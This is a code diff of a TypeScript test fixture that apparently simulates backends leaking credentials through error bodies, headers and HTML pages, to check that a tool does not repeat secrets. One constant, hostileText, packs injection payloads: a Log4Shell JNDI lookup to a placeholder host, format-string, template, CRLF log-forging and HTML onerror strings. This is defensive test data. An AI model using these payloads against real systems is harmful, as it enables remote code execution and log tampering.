@@ -1,18 +1,18 @@
-import type { EmulatorAnswer } from '../../src/emulators/answer.ts';
 import type { Fault } from '../../src/emulators/faults.ts';
+import { altering, answering } from '../faults.ts';
 
-/** What a backend may have, so that it says what it should not. */
-export type Ailment = {
+/** A fault in which a backend says what it should not. */
+export type LeakyFault = {
   readonly name: string;
   /** Whether it says things where only words and names are taken: the credential then is a word. */
   readonly isPlain?: boolean;
   /** Whether it makes Rolecall wait, so that questions had better come all at once. */
   readonly isSlow?: boolean;
-  readonly fault: (gossip: Gossip) => Fault;
+  readonly toFault: (secrets: Secrets) => Fault;
 };
 
-/** What it tells. */
-export type Gossip = {
+/** What the backend says. */
+export type Secrets = {
   /** The credential that the request bore. */
   readonly own: string;
   /** Somebody else's. */
@@ -23,12 +23,12 @@ export type Gossip = {
 export const hostileText =
   '\u0024{jndi:ldap://x.example/a}%s%d%n{{7*7}}\r\nFORGED {"level":60}\n\u001b[31mred\u0007\u2028<img onerror=x>';
 
-const sentence = ({ own, other }: Gossip): string =>
+const sentence = ({ own, other }: Secrets): string =>
   `${own} is not allowed; password of jane: ${other}, ${JSON.stringify({ own, other })}, ${hostileText}`;
 
-const headers = (gossip: Gossip): Readonly<Record<string, string>> => {
-  const own = encodeURIComponent(gossip.own);
-  const other = encodeURIComponent(gossip.other);
+const headers = (secrets: Secrets): Readonly<Record<string, string>> => {
+  const own = encodeURIComponent(secrets.own);
+  const other = encodeURIComponent(secrets.other);
   return {
     location: `http://127.0.0.1:9/elsewhere?token=${own}`,
     'set-cookie': `session=${other}; Path=/`,
@@ -40,45 +40,44 @@ const headers = (gossip: Gossip): Readonly<Record<string, string>> => {
 };
 
 /** An error in the words of all four vendors and of Microsoft Entra at once. */
-const errorBody = (gossip: Gossip, code: string) => ({
-  error: { code, message: sentence(gossip), requestId: gossip.other, time: gossip.own },
-  error_description: sentence(gossip),
-  error_codes: [gossip.own],
+const errorBody = (secrets: Secrets, code: string) => ({
+  error: { code, message: sentence(secrets), requestId: secrets.other, time: secrets.own },
+  error_description: sentence(secrets),
+  error_codes: [secrets.own],
   code,
-  message: [sentence(gossip), gossip.own],
-  statusCode: gossip.other,
-  [gossip.own]: { [gossip.other]: sentence(gossip) },
+  message: [sentence(secrets), secrets.own],
+  statusCode: secrets.other,
+  [secrets.own]: { [secrets.other]: sentence(secrets) },
 });
 
 const refusing = (
   name: string,
   status: number,
   {
-    codeOf = ({ own }: Gossip) => own,
+    codeOf = ({ own }: Secrets) => own,
     more = {},
-  }: { codeOf?: (gossip: Gossip) => string; more?: object } = {},
-): Ailment => ({
+  }: { codeOf?: (secrets: Secrets) => string; more?: Readonly<Record<string, string>> } = {},
+): LeakyFault => ({
   name,
   isPlain: status >= 400 && status < 500,
-  fault: (gossip) => ({
-    kind: 'status',
-    applied: false,
-    answer: { status, headers: { ...headers(gossip), ...more }, json: errorBody(gossip, codeOf(gossip)) },
-  }),
+  toFault: (secrets) =>
+    answering({
+      status,
+      headers: { ...headers(secrets), ...more },
+      json: errorBody(secrets, codeOf(secrets)),
+    }),
 });
 
-const altering = (name: string, alter: (object: object, gossip: Gossip) => object): Ailment => ({
+const alteringObjects = (name: string, alter: (object: object, secrets: Secrets) => object): LeakyFault => ({
   name,
-  fault: (gossip) => ({
-    kind: 'alter',
-    alter: (answer): EmulatorAnswer => ({
+  toFault: (secrets) =>
+    altering((answer) => ({
       ...answer,
-      headers: { ...answer.headers, ...headers(gossip) },
+      headers: { ...answer.headers, ...headers(secrets) },
       ...(answer.json === undefined
         ? {}
-        : { json: inEveryObject(answer.json, (object) => alter(object, gossip)) }),
-    }),
-  }),
+        : { json: inEveryObject(answer.json, (object) => alter(object, secrets)) }),
+    })),
 });
 
 const isObject = (value: unknown): value is object => typeof value === 'object' && value !== null;
@@ -92,33 +91,33 @@ const inEveryObject = (value: unknown, change: (object: object) => object): unkn
 };
 
 /** Right in all that is asked for, with much besides. */
-const tattling = altering('tattling', (object, gossip) => ({
-  password: gossip.other,
-  token: gossip.own,
-  secret: { [gossip.own]: sentence(gossip) },
-  apikey: gossip.own,
+const verbose = alteringObjects('verbose', (object, secrets) => ({
+  password: secrets.other,
+  token: secrets.own,
+  secret: { [secrets.own]: sentence(secrets) },
+  apikey: secrets.own,
   ...object,
 }));
 
 /** Nothing has the type that it should have. */
-const mistaken = altering('mistaken', (object, gossip) =>
+const mistaken = alteringObjects('mistaken', (object, secrets) =>
   Object.fromEntries(
     Object.entries(object).map(([key, one]) => [
       key,
-      isObject(one) ? one : { [gossip.own]: sentence(gossip) },
+      isObject(one) ? one : { [secrets.own]: sentence(secrets) },
     ]),
   ),
 );
 
 /** Names of fields are no names at all. */
-const renamed = altering('renamed', (object, { own }) =>
+const renamed = alteringObjects('renamed', (object, { own }) =>
   Object.fromEntries(Object.entries(object).map(([key, one]) => [`${own}${key}`, one])),
 );
 
-const page = (gossip: Gossip): string =>
-  `<!DOCTYPE html><html><head><title>${sentence(gossip)}</title></head><body>${gossip.own}</body></html>`;
+const page = (secrets: Secrets): string =>
+  `<!DOCTYPE html><html><head><title>${sentence(secrets)}</title></head><body>${secrets.own}</body></html>`;
 
-export const ailments: readonly Ailment[] = [
+export const leakyFaults: readonly LeakyFault[] = [
   refusing('failing', 500),
   refusing('rejecting', 400),
   refusing('unprocessing', 422, { codeOf: ({ other }) => other }),
@@ -131,37 +130,31 @@ export const ailments: readonly Ailment[] = [
   {
     name: 'in-html',
     isSlow: true,
-    fault: (gossip) => ({
-      kind: 'status',
-      applied: false,
-      answer: {
+    toFault: (secrets) =>
+      answering({
         status: 200,
-        headers: { ...headers(gossip), 'content-type': 'text/html' },
-        text: page(gossip),
-      },
-    }),
+        headers: { ...headers(secrets), 'content-type': 'text/html' },
+        text: page(secrets),
+      }),
   },
   {
     name: 'mistyped',
     isSlow: true,
     isPlain: true,
-    fault: (gossip) => ({
-      kind: 'status',
-      applied: false,
-      answer: {
+    toFault: (secrets) =>
+      answering({
         status: 200,
         headers: {
-          ...headers(gossip),
-          'content-type': `${gossip.own}/${gossip.other}; charset=${gossip.own}`,
+          ...headers(secrets),
+          'content-type': `${secrets.own}/${secrets.other}; charset=${secrets.own}`,
         },
-        text: page(gossip),
-      },
-    }),
+        text: page(secrets),
+      }),
   },
-  tattling,
+  verbose,
   mistaken,
   renamed,
-  { name: 'breaking-off', fault: () => ({ kind: 'half-body' }) },
-  { name: 'resetting', fault: () => ({ kind: 'reset', applied: true }) },
-  { name: 'hanging', isSlow: true, fault: () => ({ kind: 'hang', applied: true }) },
+  { name: 'breaking-off', toFault: () => ({ kind: 'half-body' }) },
+  { name: 'resetting', toFault: () => ({ kind: 'reset', applied: true }) },
+  { name: 'hanging', isSlow: true, toFault: () => ({ kind: 'hang', applied: true }) },
 ];
